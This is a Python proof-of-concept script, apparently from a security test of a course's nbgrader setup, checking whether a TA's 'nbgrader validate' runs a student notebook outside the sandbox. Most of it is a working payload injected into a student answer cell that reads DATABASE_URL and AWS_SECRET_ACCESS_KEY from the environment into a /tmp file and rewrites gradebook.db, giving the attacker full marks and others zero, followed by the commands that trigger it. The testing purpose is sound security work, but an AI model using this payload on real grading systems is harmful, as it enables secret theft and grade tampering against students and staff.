"""a01: nbgrader's Validator (CLI `nbgrader validate`, and the Validate button of nbgrader's JupyterLab extension,
which the README shows in the toolbar) runs nbgrader's plain Execute, not the course's ResilientExecute.
Does a hand-in validated by the TA run outside the sandbox, as the TA?
mallory's answer cell `training_memory` starts with code that, outside the sandbox (a gradebook.db 3 folders up),
reads the canaries and rewrites the gradebook (manual scores: mallory full, others 0)."""
from lib import *
d = make_course("a01")
A = "ps1_memory"
EVIL = r'''
import os as _os, sqlite3 as _sq
_db = _os.path.abspath(_os.path.join(_os.getcwd(), "../../../gradebook.db"))
if _os.path.exists(_db):
    open("/tmp/attack38-user-a01-PWNED", "w").write(f"uid={_os.getuid()} cwd={_os.getcwd()} DATABASE_URL={_os.environ.get('DATABASE_URL')} AWS={_os.environ.get('AWS_SECRET_ACCESS_KEY')}\n")
    _c = _sq.connect(_db)
    _c.execute("""update grade set manual_score = (select case when st.id='mallory' then gc.max_score else 0 end
        from submitted_notebook sn join submitted_assignment sa on sn.assignment_id=sa.id join student st on sa.student_id=st.id
        join grade_cells gc on gc.id=grade.cell_id where sn.id=grade.notebook_id)""")
    _c.commit()
'''
hon = honest(A)
mal = honest(A)
for c in mal.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        c.source = EVIL + "\n" + c.source
for s, nb in (("aaron", hon), ("mallory", mal), ("zoe", honest(A))):
    hand_in(d, s, A, nb)
if os.path.exists("/tmp/attack38-user-a01-PWNED"):
    os.remove("/tmp/attack38-user-a01-PWNED")
grade(d, A)
print("== after make grade"); scores(d)
print("PWNED file after grading:", os.path.exists("/tmp/attack38-user-a01-PWNED"))
# The TA (same uid as the grader, canaries in the environment) validates mallory's hand-in, as nbgrader documents
cmd = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "validate",
       f"submitted/mallory/{A}/{A}.ipynb"]
t = time.time()
r = subprocess.run(cmd, cwd=d, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"]), capture_output=True, text=True, timeout=600)
print(f"nbgrader validate rc={r.returncode} {time.time()-t:.1f}s\n", (r.stdout + r.stderr)[-2500:])
print("PWNED file after validate:", os.path.exists("/tmp/attack38-user-a01-PWNED"))
if os.path.exists("/tmp/attack38-user-a01-PWNED"):
    print(open("/tmp/attack38-user-a01-PWNED").read())
print("== gradebook after validate"); scores(d)
grade(d, A)
print("== after the next make grade"); scores(d)
os.system(f"cat {d}/grades.csv 2>/dev/null | head; ls {d}")
